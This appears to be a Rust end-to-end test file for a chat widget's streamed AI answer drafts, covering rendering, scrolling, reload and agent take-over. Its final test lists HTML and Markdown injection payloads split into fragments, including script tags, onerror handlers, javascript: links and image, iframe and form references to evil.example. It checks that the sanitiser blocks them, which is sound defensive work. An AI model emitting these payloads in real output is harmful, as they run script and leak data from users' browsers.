//! Answers that are read while they are written, as customers and agents see them.

use serde_json::{Value, json};

use super::{Browser, DESKTOP, Device, PHONE};
use crate::drafts::scribe::{Pen, Scribe};
use crate::harness::{Setup, TestDatabase, TestPurser};

/// The draft's bubble, and the last answer's.
const DRAFT: &str = "$('.draft .bubble')";
const ANSWER: &str = "$$('.row.bot:not(.draft):not([hidden]) .bubble').at(-1)";

async fn shop(browser: &Browser) -> (TestDatabase, TestPurser, Pen) {
    let database = TestDatabase::sqlite();
    let (scribe, pen) = Scribe::new();
    let setup = Setup::on(&database).first(scribe).change(|config| {
        (config.limits.answer_seconds, config.limits.responder_seconds) = (600, 590);
    });
    let purser = setup.start().await;
    browser.goto(&format!("http://{}/", purser.address)).await;
    browser.open().await;
    (database, purser, pen)
}

async fn top_of(browser: &Browser, element: &str) -> f64 {
    browser.js(&format!("return {element}.getBoundingClientRect().top")).await.as_f64().expect("a number")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_draft_grows_and_becomes_the_answer() {
    for (device, arabic) in [(DESKTOP, false), (Device { dark: true, ..PHONE }, true)] {
        let Some(browser) = Browser::start(device).await else { return };
        let (_database, purser, pen) = shop(&browser).await;
        if arabic {
            browser
                .js("document.documentElement.lang = 'ar'; document.documentElement.dir = 'rtl'; purser.set({})")
                .await;
        }
        browser.say("write to me").await;
        pen.write("We deliver to **thir");
        browser.when("half a word", &format!("{DRAFT}.querySelector('strong')?.textContent === 'thir'")).await;
        assert_eq!(browser.js("return $('.dots').checkVisibility()").await, false);
        pen.write("ty** countries:\n\n- France\n- Ger");
        browser.when("a list", &format!("{DRAFT}.querySelectorAll('li').length === 2")).await;
        let said = browser
            .js("const { ariaLive, ariaBusy } = $('.draft'); return [ariaLive, ariaBusy, $$('.row.draft').length]")
            .await;
        assert_eq!(said, json!(["off", "true", 1]), "it is not read aloud piece by piece");
        // Once it is half read nothing may jump: of what stands there, and of where it stands.
        // The dots go on for as long as it is written.
        let ends = "({ effect }) => effect.getTiming().iterations === Infinity";
        browser.when("rest", &format!("root.getAnimations().every({ends})")).await;
        let before = top_of(&browser, DRAFT).await;
        let text = "We deliver to **thirty** countries:\n\n- France\n- Germany";
        browser
            .js("window.added = []; new MutationObserver((all) => all.forEach((one) => one.addedNodes.forEach((node) => \
                 window.added.push(node.className)))).observe($('.log'), { childList: true, subtree: true })")
            .await;
        pen.answer(text);
        browser.when("the answer", &format!("!$('.draft') && {ANSWER}.innerText.includes('Germany')")).await;
        browser.when("rest", "root.getAnimations().length === 0").await;
        let after = top_of(&browser, ANSWER).await;
        assert!((before - after).abs() <= 1.5, "it jumped from {before} to {after}");
        let rows = browser.js("return window.added.filter((name) => /\\brow\\b/.test(name))").await;
        assert_eq!(rows, json!(["row bot"]), "the answer is there once, to be read aloud");
        // The next answer needs none.
        browser.say("saturday delivery").await;
        browser.hear("Yes, on Saturdays too.").await;
        browser.end().await;
        purser.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_long_draft_is_read_from_its_beginning() {
    let Some(browser) = Browser::start(DESKTOP).await else { return };
    let (_database, purser, pen) = shop(&browser).await;
    browser.prefers("prefers-reduced-motion", "reduce").await;
    browser.say("write to me").await;
    let paragraphs: Vec<String> =
        (0..40).map(|at| format!("{at}: a paragraph of a long answer that nobody reads to its end.\n\n")).collect();
    for paragraph in &paragraphs {
        pen.write(paragraph);
    }
    browser.when("all of it", &format!("{DRAFT}.children.length === 40")).await;
    let place = "const log = $('.log').getBoundingClientRect(); \
                 const draft = $('.draft').getBoundingClientRect(); return draft.top - log.top";
    let place = browser.js(place).await.as_f64().expect("a number");
    assert!((0.0..=80.0).contains(&place), "its beginning is {place} px below the edge");
    let before = top_of(&browser, DRAFT).await;
    pen.answer(&paragraphs.concat());
    browser.when("the answer", &format!("!$('.draft') && {ANSWER}.children.length === 40")).await;
    let after = top_of(&browser, ANSWER).await;
    assert!((before - after).abs() <= 1.5, "it jumped from {before} to {after}");
    assert_eq!(browser.js("return root.getAnimations().length").await, 0);
    // Whoever scrolls up stays there while the next one grows.
    browser.say("write to me again").await;
    for paragraph in &paragraphs {
        pen.write(paragraph);
    }
    browser.when("all of it", &format!("{DRAFT}?.children.length === 40")).await;
    browser.js("$('.log').scrollTo({ top: 0, behavior: 'instant' })").await;
    pen.write("The end.");
    browser.when("all of it", &format!("{DRAFT}?.children.length === 41")).await;
    assert_eq!(browser.js("return $('.log').scrollTop").await, 0);
    pen.answer("done");
    browser.when("the answer", "!$('.draft') && $('.log').scrollTop === 0").await;
    browser.end().await;
    purser.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_draft_comes_back_after_a_reload_and_goes_with_a_take_over() {
    let Some(browser) = Browser::start(DESKTOP).await else { return };
    let (_database, purser, pen) = shop(&browser).await;
    browser.say("write to me").await;
    pen.write("One moment, I");
    browser.when("a draft", &format!("{DRAFT}?.innerText === 'One moment, I'")).await;
    browser.reload().await;
    browser.when("the same draft", &format!("{DRAFT}?.innerText === 'One moment, I'")).await;
    pen.write(" look");
    browser.when("more of it", &format!("{DRAFT}?.innerText === 'One moment, I look'")).await;
    let conversation = browser
        .js("return JSON.parse(localStorage[Object.keys(localStorage).find((key) => /^purser [^ ]+$/.test(key))]).conversation")
        .await;
    let conversation = conversation.as_str().and_then(|id| id.parse().ok()).expect("an id");
    let agent = crate::drafts::an_agent();
    purser.desk.take(purser::conversation::ConversationId(conversation), &agent).await.expect("it is taken");
    pen.was_dropped().await;
    browser.when("the agent and no draft", "!$('.draft') && rows().at(-1).includes('Anna')").await;
    assert_eq!(browser.js("return rows().some((row) => row.includes('One moment'))").await, false);
    browser.end().await;
    purser.stop().await;
}

/// What a model might write that does what an attacker wants, cut where it hurts.
const HOSTILE: &[&[&str]] = &[
    &["<scr", "ipt>window.pwned = 1</scr", "ipt>"],
    &["a <img src=x ", "onerror='window.pwned = 2'", "> b"],
    &["<svg/onload=", "window.pwned=3>"],
    &["![](https://evil.ex", "ample/pixel.png?q=secret)"],
    &["[click](java", "script:window.pwned=4)"],
    &["[click](data:text/html,<script>window.pwned=5</scr", "ipt>)"],
    &["<https://evil.example/", "x>"],
    &["<a href=\"https://evil.example/\" onclick=\"window.pwned=6\">", "click</a>"],
    &["[a]: https://evil.example/ \"x\"\n\n[a", "] and ![a", "]"],
    &["```html\n<script>window.pwned = 7</scr", "ipt>\n``", "`\n<b>out</b>"],
    &["| <img src=x onerror=window.pwned=8> |\n|-", "--|\n| <iframe src=https://evil.example></iframe> ", "|"],
    &["**<style>*{display:none}</style", ">** `<link rel=stylesheet href=https://evil.example/x.css>", "`"],
    &["\u{202e}txt.exe\u{2066} [pay\u{200b}pal](https://evil.exa", "mple) \u{feff}\u{2028}"],
    &["<form action=https://evil.example><input name=card><button>Pay</but", "ton></form>"],
    &["&lt;img src=x onerror=window.pwned=9&gt", "; &#60;script&#6", "2;"],
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_in_a_draft_runs_or_calls_home() {
    let Some(browser) = Browser::start(DESKTOP).await else { return };
    let (_database, purser, pen) = shop(&browser).await;
    browser.devtools("Network.enable", json!({})).await;
    browser.reports().await;
    let judge = "const allowed = /^(p|br|strong|em|del|code|pre|ul|ol|li|blockquote|h3|table|thead|tbody|tr|th|td|hr|div|span)$/i; \
                 const inside = [...$('.draft .bubble').querySelectorAll('*')]; \
                 return [window.pwned ?? null, inside.filter((e) => !allowed.test(e.tagName)).map((e) => e.outerHTML), \
                 inside.filter((e) => [...e.attributes].some(({ name }) => !/^(class|dir|start|tabindex|role)$/.test(name))).map((e) => e.outerHTML)]";
    for (round, pieces) in HOSTILE.iter().enumerate() {
        browser.say(&format!("write {round}")).await;
        let mut whole = String::new();
        for (at, piece) in pieces.iter().enumerate() {
            whole.push_str(piece);
            // A word behind it tells that it has been shown.
            pen.write(piece);
            pen.write(&format!("\n\nseen{at}\n\n"));
            whole.push_str(&format!("\n\nseen{at}\n\n"));
            browser.when("the piece", &format!("{DRAFT}?.textContent.includes('seen{at}')")).await;
            assert_eq!(browser.js(judge).await, json!([null, [], []]), "after {whole:?}");
        }
        pen.answer("done");
        browser.when("the answer", "!$('.draft')").await;
        // The same without anything between the pieces, whole.
        browser.say(&format!("write {round} again")).await;
        for piece in *pieces {
            pen.write(piece);
        }
        pen.write("\n\nseen");
        browser.when("all of it", &format!("{DRAFT}?.textContent.includes('seen')")).await;
        assert_eq!(browser.js(judge).await, json!([null, [], []]), "after {:?}", pieces.concat());
        pen.answer("done");
        browser.when("the answer", "!$('.draft')").await;
    }
    let own = format!("{}", purser.address);
    let foreign: Vec<Value> = browser
        .reports()
        .await
        .into_iter()
        .filter(|report| report["method"] == "Network.requestWillBeSent")
        .map(|report| report["params"]["request"]["url"].clone())
        .filter(|url| !url.as_str().is_some_and(|url| url.contains(&own) || url.starts_with("data:")))
        .collect();
    assert_eq!(foreign, [Value::Null; 0], "nobody else is asked for anything");
    browser.end().await;
    purser.stop().await;
}
